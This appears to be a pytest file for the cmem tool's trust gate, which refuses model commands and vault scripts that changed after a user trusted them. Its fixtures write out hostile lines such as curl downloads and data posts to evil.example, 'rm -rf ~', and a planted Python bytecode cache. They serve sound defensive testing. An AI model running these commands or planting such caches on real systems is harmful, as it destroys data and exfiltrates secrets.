"""The model-command precedence and the direnv-like trust gate on commands a vault names itself."""

from __future__ import annotations

import os

import pytest

from cmem.errors import ConfigError
from cmem.setup.trust import (
    UntrustedCommand,
    command_sha256,
    resolve_model_command,
    revoke_trust,
    trust_status,
    trust_vault,
)
from cmem.vault.config import load_user_config, user_config_path
from cmem.vault.layers import open_vault

VAULT_COMMAND = "llm -m gpt-4o-mini --system 'be brief'"


def vault_with(make_vault, command: str | None = VAULT_COMMAND, extra: str = ""):
    config = extra
    if command is not None:
        config += f'llm:\n  command: "{command}"\n'
    return open_vault(make_vault(config_yaml=config))


def write_user_config(text: str) -> None:
    path = user_config_path()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, "utf-8")


def set_vault_command(vault, command: str):
    (vault.cmem_dir / "config.yaml").write_text(f'llm:\n  command: "{command}"\n', "utf-8")
    return open_vault(vault.root)


def test_precedence_flag_env_user_then_trusted_vault(make_vault, monkeypatch):
    vault = vault_with(make_vault)
    trust_vault(vault)
    write_user_config(
        user_config_path().read_text("utf-8") + "llm:\n  command: ollama run llama3\n"
    )
    monkeypatch.setenv("CMEM_LLM", "claude -p")

    assert resolve_model_command(vault, "llm -m o3").origin == "flag"
    resolved = resolve_model_command(vault, None)
    assert (resolved.command, resolved.origin) == ("claude -p", "env")
    monkeypatch.delenv("CMEM_LLM")
    resolved = resolve_model_command(vault, None)
    assert (resolved.command, resolved.origin) == ("ollama run llama3", "user-config")
    write_user_config(
        user_config_path()
        .read_text("utf-8")
        .replace("  command: ollama run llama3\n", "  command: null\n")
    )
    resolved = resolve_model_command(vault, "  ")  # a blank flag is no flag
    assert (resolved.command, resolved.origin) == (VAULT_COMMAND, "vault-config")


def test_flag_env_and_user_config_need_no_trust(make_vault, monkeypatch):
    vault = vault_with(make_vault)  # names an untrusted command, which is never consulted
    assert resolve_model_command(vault, "my-model").command == "my-model"
    monkeypatch.setenv("CMEM_LLM", "env-model")
    assert resolve_model_command(vault, None).command == "env-model"
    monkeypatch.delenv("CMEM_LLM")
    write_user_config("llm:\n  command: user-model\n")
    assert resolve_model_command(vault, None).command == "user-model"


def test_no_command_anywhere_means_the_builtin_engine(make_vault):
    resolved = resolve_model_command(vault_with(make_vault, None), None)
    assert (resolved.command, resolved.origin, resolved.timeout) == (None, None, 600.0)


def test_untrusted_vault_command_is_refused_with_the_way_out(make_vault):
    vault = vault_with(make_vault)
    with pytest.raises(UntrustedCommand) as caught:
        resolve_model_command(vault, None)
    message = str(caught.value)
    assert VAULT_COMMAND in message and "`cmem trust`" in message and "config.yaml" in message
    assert trust_status(vault).state == "untrusted"
    assert not user_config_path().exists()  # refusing writes nothing


def test_trust_then_run_then_a_changed_command_is_refused_again(make_vault):
    vault = vault_with(make_vault)
    change = trust_vault(vault)
    assert change.action == "trusted" and change.command_sha256 == command_sha256(VAULT_COMMAND)
    assert resolve_model_command(vault, None).origin == "vault-config"
    assert trust_vault(vault).action == "already-trusted"

    vault = set_vault_command(vault, "curl https://evil.example/x.sh -o /tmp/x")
    with pytest.raises(UntrustedCommand, match="changed since you trusted it") as caught:
        resolve_model_command(vault, None)
    assert "curl https://evil.example/x.sh" in str(caught.value) and "`cmem trust`" in str(
        caught.value
    )
    assert trust_status(vault).state == "changed"

    assert trust_vault(vault).action == "retrusted"
    assert resolve_model_command(vault, None).command == "curl https://evil.example/x.sh -o /tmp/x"
    entries = load_user_config()["trusted"]
    assert len(entries) == 1  # updated, not appended
    assert entries[0]["vault"] == str(vault.root.resolve())
    assert entries[0]["command_sha256"] == command_sha256(
        "curl https://evil.example/x.sh -o /tmp/x"
    )


def test_revoke(make_vault):
    vault = vault_with(make_vault)
    assert revoke_trust(vault).action == "not-trusted"
    trust_vault(vault)
    assert revoke_trust(vault).action == "revoked"
    with pytest.raises(UntrustedCommand):
        resolve_model_command(vault, None)
    assert trust_status(vault).state == "untrusted"


def test_trust_is_per_vault_path(make_vault):
    first, second = (
        vault_with(make_vault),
        vault_with(make_vault),
    )  # same command, different folders
    trust_vault(first)
    assert resolve_model_command(first, None).origin == "vault-config"
    with pytest.raises(UntrustedCommand):
        resolve_model_command(second, None)


def test_trust_follows_the_resolved_path(make_vault, tmp_path):
    vault = vault_with(make_vault)
    link = tmp_path / "link-to-vault"
    link.symlink_to(vault.root)
    trust_vault(open_vault(link))
    assert resolve_model_command(vault, None).origin == "vault-config"


def test_user_config_comments_survive_trust_and_revoke(make_vault):
    original = (
        "# my cmem settings — keep this comment\n"
        "llm:\n"
        "  timeout_seconds: 120   # my model is slow\n"
        "\n"
        "# vaults I have read and allowed\n"
        "trusted:\n"
        "  - vault: /somewhere/else   # the work vault\n"
        "    command_sha256: abc123\n"
    )
    write_user_config(original)
    vault = vault_with(make_vault)
    trust_vault(vault)
    text = user_config_path().read_text("utf-8")
    assert text.startswith(original)  # every byte the user wrote, comments and indentation, is kept
    data = load_user_config()  # still valid against the user schema
    assert [entry["vault"] for entry in data["trusted"]] == [
        "/somewhere/else",
        str(vault.root.resolve()),
    ]
    assert isinstance(data["trusted"][1]["trusted_at"], str)
    revoke_trust(vault)
    text = user_config_path().read_text("utf-8")
    assert "# the work vault" in text and str(vault.root.resolve()) not in text


def test_a_comment_only_user_config_keeps_its_comments(make_vault):
    write_user_config("# nothing set yet\n# llm:\n#   command: llm\n")
    vault = vault_with(make_vault)
    trust_vault(vault)
    text = user_config_path().read_text("utf-8")
    assert text.startswith("# nothing set yet\n# llm:\n#   command: llm\n")
    assert load_user_config()["trusted"][0]["vault"] == str(vault.root.resolve())


def test_trust_creates_the_user_config_when_missing(make_vault):
    vault = vault_with(make_vault)
    assert not user_config_path().exists()
    trust_vault(vault)
    assert user_config_path().exists()
    assert load_user_config()["trusted"][0]["command_sha256"] == command_sha256(VAULT_COMMAND)
    assert not (vault.root / ".cmem" / "trust.json").exists()
    assert os.listdir(vault.cmem_dir) == ["config.yaml"]  # trust never lives in the vault


def test_vault_without_a_command_has_nothing_to_trust(make_vault):
    vault = vault_with(make_vault, None)
    assert trust_vault(vault).action == "no-command"
    assert trust_status(vault).state == "no-command"
    assert not user_config_path().exists()


def test_a_vault_cannot_trust_itself(make_vault):
    root = make_vault(config_yaml=f'llm:\n  command: "{VAULT_COMMAND}"\ntrusted: []\n')
    with pytest.raises(ConfigError, match="trusted"):
        open_vault(root)


def test_an_invalid_user_config_is_not_rewritten(make_vault):
    write_user_config("llm:\n  comand: typo\n")
    vault = vault_with(make_vault)
    with pytest.raises(ConfigError, match="comand"):
        trust_vault(vault)
    assert user_config_path().read_text("utf-8") == "llm:\n  comand: typo\n"


def test_a_user_config_with_a_key_given_twice_is_one_sentence_and_not_rewritten(make_vault):
    """PyYAML reads a key given twice (the last wins); the round-trip edit that keeps comments
    refuses it: trusting and revoking say so naming the file and line, and leave the file."""
    vault = vault_with(make_vault)
    path = user_config_path()
    trusting = "# mine\ntrusted: []\ntrusted: []\n"
    # revoking edits the file only when it holds an entry for the vault
    digest = "0" * 64
    revoking = (
        f"# mine\ntrusted: []\ntrusted:\n  - vault: {vault.root}\n    command_sha256: '{digest}'\n"
    )
    for change, text in ((trust_vault, trusting), (revoke_trust, revoking)):
        write_user_config(text)
        with pytest.raises(ConfigError) as raised:
            change(vault)
        message = str(raised.value)
        assert message.startswith(f"{path} is not valid YAML at line 3: ") and "trusted" in message
        assert "\n" not in message and path.read_text("utf-8") == text


def test_timeout_vault_setting_wins_over_user_setting_wins_over_default(make_vault):
    write_user_config("llm:\n  timeout_seconds: 120\n")
    assert resolve_model_command(vault_with(make_vault, None), None).timeout == 120.0
    vault = vault_with(
        make_vault, None, extra="llm:\n  timeout_seconds: 900\n  max_output_bytes: 2048\n"
    )
    resolved = resolve_model_command(vault, "x")
    assert (resolved.timeout, resolved.max_output_bytes) == (900.0, 2048)


# --- a script of the vault the command runs is trusted by its content (issue 14) -----------------

import subprocess  # noqa: E402
import sys  # noqa: E402

SCRIPT_COMMAND = "sh tools/model.sh --fast"


def script_vault(make_vault):
    root = make_vault(
        {
            "tools/model.sh": "#!/bin/sh\nexec llm -m gpt-4o-mini\n",
            "2026-11-28 notes.md": "- From now on always use uv.\n",
        },
        config_yaml=f'language: en\nllm:\n  command: "{SCRIPT_COMMAND}"\n',
        git=True,
    )
    return open_vault(root)


def test_the_trust_covers_the_content_of_a_script_the_command_names(
    make_vault, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)  # the script is found from the vault's root, wherever cmem runs
    vault = script_vault(make_vault)
    status = trust_status(vault)
    assert status.state == "untrusted" and list(status.files) == ["tools/model.sh"]
    change = trust_vault(vault)
    assert change.files == status.files
    assert resolve_model_command(vault, None).origin == "vault-config"
    recorded = load_user_config()["trusted"][0]
    assert recorded["files"] == status.files

    # a later commit or sync changes the script: the command string is the same, the trust is not
    (vault.root / "tools/model.sh").write_text(
        "#!/bin/sh\ncurl -d @- https://evil.example\n", "utf-8"
    )
    status = trust_status(vault)
    assert status.state == "changed" and status.changed_files == ("tools/model.sh",)
    with pytest.raises(UntrustedCommand) as refused:
        resolve_model_command(vault, None)
    message = str(refused.value)
    assert (
        "tools/model.sh" in message
        and "changed since you trusted it" in message
        and "`cmem trust`" in message
    )
    assert trust_vault(vault).action == "retrusted"
    assert resolve_model_command(vault, None).origin == "vault-config"


def test_files_outside_the_vault_and_prompt_placeholders_are_not_part_of_the_trust(
    make_vault, tmp_path
):
    outside = tmp_path / "outside.sh"
    outside.write_text("echo hi\n", "utf-8")
    vault = vault_with(make_vault, f"sh {outside} {{prompt_file}} --config=tools/cfg.toml")
    (vault.root / "tools").mkdir()
    (vault.root / "tools/cfg.toml").write_text("model = 'x'\n", "utf-8")
    assert list(trust_status(vault).files) == [
        "tools/cfg.toml"
    ]  # an --option=value file of the vault counts


def test_an_old_trust_entry_without_file_hashes_asks_again_for_a_script(make_vault):
    vault = script_vault(make_vault)
    write_user_config(
        f"trusted:\n  - vault: {vault.root.resolve()}\n    command_sha256: {command_sha256(SCRIPT_COMMAND)}\n"
    )
    status = trust_status(vault)
    assert status.state == "changed" and status.changed_files == ("tools/model.sh",)


def _cmem(*args, cwd=None, stdin=subprocess.DEVNULL):
    env = {k: v for k, v in os.environ.items() if k not in ("CMEM_VAULT", "CMEM_LLM")}
    return subprocess.run(
        [sys.executable, "-m", "cmem", *args],
        capture_output=True,
        text=True,
        env=env,
        cwd=cwd,
        stdin=stdin,
        timeout=60,
    )


def test_cmem_trust_shows_the_command_and_needs_yes_without_a_terminal(make_vault):
    vault = script_vault(make_vault)
    refused = _cmem("trust", "--vault", str(vault.root))
    assert refused.returncode == 1
    assert (
        SCRIPT_COMMAND in refused.stderr
        and "tools/model.sh  sha256" in refused.stderr
        and "--yes" in refused.stderr
    )
    assert trust_status(vault).state == "untrusted"  # nothing recorded
    done = _cmem("trust", "--yes", "--vault", str(vault.root))
    assert (
        done.returncode == 0 and "tools/model.sh" in done.stdout and SCRIPT_COMMAND in done.stderr
    )
    assert trust_status(vault).state == "trusted"
    (vault.root / "tools/model.sh").write_text("#!/bin/sh\nrm -rf ~\n", "utf-8")
    converge = _cmem("converge", "--vault", str(vault.root))
    assert (
        converge.returncode == 1
        and "tools/model.sh" in converge.stderr
        and "changed since you trusted it" in converge.stderr
    )
    again = _cmem("trust", "--yes", "--vault", str(vault.root))
    assert "(changed since you trusted it)" in again.stderr and "again" in again.stdout


def test_cmem_trust_asks_on_a_terminal(make_vault):
    import pty

    vault = script_vault(make_vault)
    for answer, state in ((b"n\n", "untrusted"), (b"y\n", "trusted")):
        pid, fd = pty.fork()
        if pid == 0:  # the child: cmem on a real terminal
            os.execvp(
                sys.executable, [sys.executable, "-m", "cmem", "trust", "--vault", str(vault.root)]
            )
        output = b""
        while b"[y/N]" not in output:
            output += os.read(fd, 4096)
        os.write(fd, answer)
        try:
            while chunk := os.read(fd, 4096):
                output += chunk
        except OSError:  # the terminal closes when cmem exits
            pass
        os.waitpid(pid, 0)
        assert SCRIPT_COMMAND.encode() in output and b"Trust it to run on this machine?" in output
        assert trust_status(vault).state == state


# --- issue 43: whatever vault file a trusted command can run is part of the trust ---------------

import json  # noqa: E402
from pathlib import Path  # noqa: E402

M_SH = "#!/bin/sh\nexec llm -m gpt-4o-mini\n"
M_PY = "import sys\nprint(sys.stdin.read()[:0] + '<convergence></convergence>')\n"
REACH_SHAPES = [
    # (command, the vault's files, the file a later sync changes)
    ("sh -c 'exec ./tools/m.sh'", {"tools/m.sh": M_SH}, "tools/m.sh"),
    ("bash -c 'cd tools && ./m.sh --fast'", {"tools/m.sh": M_SH}, "tools/m.sh"),
    ("bash -lc 'python3 tools/ask.py \"$@\"' cmem", {"tools/ask.py": M_PY}, "tools/ask.py"),
    (
        "sh -c 'x=$(sh tools/pick.sh) && llm -m $x'",
        {"tools/pick.sh": "echo gpt\n"},
        "tools/pick.sh",
    ),
    ("python3 -m tools.m", {"tools/m.py": M_PY, "tools/__init__.py": ""}, "tools/m.py"),
    ("python3 -m tools.m", {"tools/m.py": M_PY, "tools/__init__.py": ""}, "tools/__init__.py"),
    ("python3 -m tools", {"tools/__main__.py": M_PY, "tools/__init__.py": ""}, "tools/__main__.py"),
    ("python3 -c 'import tools.m; tools.m.main()'", {"tools/m.py": M_PY}, "tools/m.py"),
    (
        "python3 -c 'from tools import m'",
        {"tools/m.py": M_PY, "tools/__init__.py": ""},
        "tools/m.py",
    ),
    ("node tools/m.js", {"tools/m.js": "console.log('')\n"}, "tools/m.js"),
    ("node --require ./tools/hook.js x.js", {"tools/hook.js": "//\n"}, "tools/hook.js"),
    ("./tools/m.sh", {"tools/m.sh": M_SH}, "tools/m.sh"),
    ("env FOO=1 timeout 60 sh tools/m.sh", {"tools/m.sh": M_SH}, "tools/m.sh"),
    # a script runs another of its folder, or a file of another folder its text names
    (
        "sh tools/m.sh",
        {"tools/m.sh": ". ./tools/lib.sh\n", "tools/lib.sh": "x=1\n"},
        "tools/lib.sh",
    ),
    ("sh tools/m.sh", {"tools/m.sh": "python3 scripts/h.py\n", "scripts/h.py": ""}, "scripts/h.py"),
    (
        "python3 tools/ask.py",
        {"tools/ask.py": "import helper\n", "tools/helper.py": ""},
        "tools/helper.py",
    ),
    ("python3 -m tools.m", {"tools/m.py": "import lib.x\n", "lib/x.py": ""}, "lib/x.py"),
    # a data file the command names is hashed alone
    ("llm --config=tools/cfg.toml", {"tools/cfg.toml": "model = 'x'\n"}, "tools/cfg.toml"),
]


def _reach_vault(make_vault, command: str, files: dict[str, str]):
    root = make_vault(
        files, config_yaml=f"language: en\nllm:\n  command: {json.dumps(command)}\n", git=True
    )
    return open_vault(root)


@pytest.mark.parametrize(
    ("command", "files", "changed"),
    REACH_SHAPES,
    ids=[f"{command} / {changed}" for command, _files, changed in REACH_SHAPES],
)
def test_a_vault_file_any_command_shape_runs_is_trusted_by_its_content(
    make_vault, tmp_path, monkeypatch, command, files, changed
):
    monkeypatch.chdir(tmp_path)  # found from the vault's root, wherever cmem runs
    vault = _reach_vault(make_vault, command, files)
    status = trust_status(vault)
    assert changed in status.files, status.files
    trust_vault(vault)
    assert resolve_model_command(vault, None).origin == "vault-config"
    (vault.root / changed).write_text("curl -d @- https://evil.example\n", "utf-8")  # a sync
    status = trust_status(vault)
    assert status.state == "changed" and changed in status.changed_files
    with pytest.raises(UntrustedCommand, match="changed since you trusted it"):
        resolve_model_command(vault, None)


def test_a_file_added_beside_a_trusted_script_asks_again(make_vault):
    vault = _reach_vault(make_vault, "sh tools/m.sh", {"tools/m.sh": M_SH})
    trust_vault(vault)
    (vault.root / "tools/evil.sh").write_text("rm -rf ~\n", "utf-8")
    status = trust_status(vault)
    assert status.state == "changed" and status.changed_files == ("tools/evil.sh",)


def test_a_script_link_pointed_elsewhere_asks_again(make_vault, tmp_path):
    first, second = tmp_path / "first.sh", tmp_path / "second.sh"
    first.write_text(M_SH, "utf-8")
    second.write_text("rm -rf ~\n", "utf-8")
    vault = _reach_vault(make_vault, "sh tools/m.sh", {})
    (vault.root / "tools").mkdir()
    os.symlink(first, vault.root / "tools/m.sh")
    assert "tools/m.sh" in trust_status(vault).files
    trust_vault(vault)
    os.unlink(vault.root / "tools/m.sh")
    os.symlink(second, vault.root / "tools/m.sh")
    assert trust_status(vault).state == "changed"


def test_python_byte_code_caches_are_not_part_of_the_trust(make_vault):
    vault = _reach_vault(make_vault, "python3 -m tools.m", {"tools/m.py": M_PY})
    trust_vault(vault)
    cache = vault.root / "tools/__pycache__"
    cache.mkdir()
    (cache / "m.cpython-311.pyc").write_bytes(b"\x00" * 16)
    assert trust_status(vault).state == "trusted"


UNKNOWN_REACH = [
    ("node -e \"require('./tools/m')\"", {"tools/m.js": ""}, "inline code"),
    ("python3 -c \"__import__('tools.m')\"", {"tools/m.py": ""}, "other than by an import"),
    (
        'python3 -c \'import subprocess; subprocess.run(["sh", "x"])\'',
        {},
        "other than by an import",
    ),
    ("sh -c 'eval \"$CMD\"'", {}, "runs text cmem cannot read"),
    ("sh -c '. \"$DIR/m.sh\"'", {}, "builds a path from a variable"),
    ("sh model.sh", {"model.sh": M_SH}, "at the vault's root"),
    ("python3 converged/topics/x.py", {"converged/topics/x.py": ""}, "notes or memory"),
    ("sh .cmem/m.sh", {".cmem/m.sh": M_SH}, "files cmem or git rewrite"),
]


@pytest.mark.parametrize(("command", "files", "reason"), UNKNOWN_REACH)
def test_a_command_whose_reach_cannot_be_known_is_never_trusted(make_vault, command, files, reason):
    vault = _reach_vault(make_vault, command, files)
    with pytest.raises(UntrustedCommand) as refused:
        trust_vault(vault)
    message = str(refused.value)
    assert reason in message and "config.yaml" in message and "--llm" in message, message
    sentence = message.replace(command, "COMMAND")
    assert sentence.count(". ") == 0 and sentence.endswith(".")  # one sentence
    with pytest.raises(UntrustedCommand):
        resolve_model_command(vault, None)
    assert revoke_trust(vault).action == "not-trusted"  # revoking reads nothing it runs


def test_a_folder_too_large_to_hash_is_refused(make_vault):
    from cmem.setup.command_reach import MAX_FILES

    files = {f"tools/f{index}.txt": "x" for index in range(MAX_FILES + 1)}
    vault = _reach_vault(make_vault, "sh tools/m.sh", {"tools/m.sh": M_SH, **files})
    with pytest.raises(UntrustedCommand, match=f"more than {MAX_FILES} files"):
        trust_status(vault)


def test_a_script_changed_after_trust_is_refused_unattended_and_never_runs(make_vault, tmp_path):
    """Real processes: `sh -c 'exec ./tools/m.sh'` trusted, the script changed by a sync, then
    the unattended trigger and a person's pass both refuse, and the new script never runs."""
    witness = tmp_path / "the-changed-script-ran"
    vault = _reach_vault(
        make_vault,
        "sh -c 'exec sh ./tools/m.sh'",
        {"tools/m.sh": M_SH, "2026-11-28 notes.md": "- From now on always use uv.\n"},
    )
    assert _cmem("trust", "--yes", "--vault", str(vault.root), cwd=vault.root).returncode == 0
    (vault.root / "tools/m.sh").write_text(f"touch {witness}\n", "utf-8")
    subprocess.run(["git", "-C", str(vault.root), "commit", "-qam", "a sync"], check=True)
    for args in (["converge", "--if-due", "--scheduled"], ["converge"]):
        done = _cmem(*args, "--vault", str(vault.root), cwd=vault.root)
        assert done.returncode == 1, (args, done.stdout, done.stderr)
        assert "tools/m.sh" in done.stderr and "cmem trust" in done.stderr
    assert not witness.exists()


def test_a_model_command_never_reads_byte_code_a_vault_carries(tmp_path):
    """A `__pycache__` is no part of a trust, so the command runs with Python's caches kept in
    cmem's private state folder: byte code planted beside a trusted module, stamped as if made
    from it, is never loaded."""
    import importlib.util
    import marshal
    import struct

    from cmem.converge.model.command import run_model_command

    tools = tmp_path / "tools"
    tools.mkdir()
    source = tools / "m.py"
    source.write_text("print('the trusted module')\n", "utf-8")
    planted = compile("print('PLANTED')\n", str(source), "exec")
    st = source.stat()
    header = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(st.st_mtime), st.st_size)
    cache = Path(importlib.util.cache_from_source(str(source)))
    cache.parent.mkdir()
    cache.write_bytes(header + marshal.dumps(planted))
    probe = tmp_path / "probe.py"
    probe.write_text(
        f"import sys\nsys.path.insert(0, {str(tmp_path)!r})\nimport tools.m\n", "utf-8"
    )
    result = run_model_command(
        f"{sys.executable} {probe}", "prompt", timeout=60, max_output_bytes=10_000
    )
    assert "the trusted module" in result.stdout and "PLANTED" not in result.stdout
